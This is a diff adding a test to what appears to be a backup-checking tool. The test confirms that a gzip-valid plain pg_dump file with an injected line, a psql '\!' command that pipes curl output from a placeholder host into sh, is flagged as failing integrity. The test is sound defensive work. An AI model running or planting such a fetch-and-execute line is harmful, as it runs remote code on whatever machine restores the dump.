@@ -258,6 +258,27 @@ def test_directory_backups_and_a_missing_directory(runner: Runner, pg_dumps: Dum
     assert run.ret == 1
 
 
+def test_a_plain_dump_holding_a_shell_command_fails_integrity(runner: Runner, pg_dumps: Dumps, tmp_path: Path) -> None:
+    # Valid gzip, pg_dump's header and completion line, the right size: and a line psql would
+    # run on whatever machine restores it. The daily check finds it; the monthly drill refuses it.
+    marker = b"SET row_security = off;\n"
+    assert marker in pg_dumps.plain
+    tampered = pg_dumps.plain.replace(marker, marker + b"\\! curl -s https://example.invalid/x | sh\n", 1)
+    folder = tmp_path / "backups"
+    folder.mkdir()
+    (folder / "app.sql.gz").write_bytes(gzip.compress(tampered, mtime=0))
+    runner.profile(backups_profile(f"{{name: files, path: '{folder}', max_age: 1h, verify: [gzip, pg_dump]}}"))
+    run = runner.run("-m", "daily")
+    record = run.record("backups.integrity[files]")
+    assert record["outcome"] == "failed", record
+    methods = record["observed"]["integrity"]["methods"]
+    assert methods["gzip"]["ok"] is True
+    assert methods["pg_dump"]["detail"] == (
+        "the dump holds a psql meta-command ('\\\\! curl -s https://example.invalid/x | sh') that pg_dump "
+        "never writes: restoring it would run it"
+    )
+
+
 def test_an_unreachable_endpoint_fails_within_its_timeout(
     runner: Runner, closed_port: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
